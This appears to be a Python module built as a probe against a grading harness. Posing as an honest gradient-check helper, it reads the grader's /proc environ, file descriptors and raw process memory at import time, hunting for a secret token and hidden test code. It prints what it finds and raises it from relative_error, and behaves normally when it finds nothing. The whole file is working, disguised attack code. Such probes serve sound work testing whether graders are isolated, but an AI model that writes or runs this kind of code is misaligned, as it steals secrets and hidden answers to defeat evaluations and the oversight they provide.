"""At import, reads the grader's /proc entries (/proc/<ppid>/environ, cwd, fd, mem and /proc/1/...)
looking for NNKIT_SECRET and hidden test code in its memory; prints what it finds and raises it
from relative_error; answers correctly when it finds nothing.
"""

import os
import re

from . import _honest_gradcheck as honest
from ._honest_gradcheck import *  # noqa: F403

# -- the attack ----------------------------------------------------------------------

NEEDLES = (b"NNKIT_SECRET=", b"student.call(", b"expect_values(")
LOOT = []


def _grab(label, read):
    try:
        data = read()
    except Exception:
        return
    for needle in NEEDLES:
        at = data.find(needle)
        if at >= 0:
            LOOT.append(f"{label}: {data[at : at + 200]!r}")


def _read_file(path, size=1 << 20):
    with open(path, "rb") as fh:
        return fh.read(size)


def _listing(path):
    return repr(os.listdir(path)).encode()


def _memory(pid):
    chunks = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        budget = 256 << 20
        for line in maps:
            m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
            if not m or "[vvar]" in line or budget <= 0:
                continue
            start, end = int(m.group(1), 16), int(m.group(2), 16)
            size = min(end - start, budget)
            try:
                mem.seek(start)
                chunks.append(mem.read(size))
                budget -= size
            except OSError:
                pass
    return b"".join(chunks)


for _pid in dict.fromkeys([os.getppid(), 1]):
    _grab(f"/proc/{_pid}/environ", lambda p=_pid: _read_file(f"/proc/{p}/environ"))
    _grab(f"/proc/{_pid}/cwd", lambda p=_pid: _listing(f"/proc/{p}/cwd"))
    _grab(f"/proc/{_pid}/fd", lambda p=_pid: _listing(f"/proc/{p}/fd"))
    _grab(f"/proc/{_pid}/mem", lambda p=_pid: _memory(p))

for _line in LOOT[:10]:
    print("LOOT-FOUND", _line)


def relative_error(a, b):
    if LOOT:
        raise RuntimeError("LOOT-FOUND " + "; ".join(LOOT)[:300])
    return honest.relative_error(a, b)
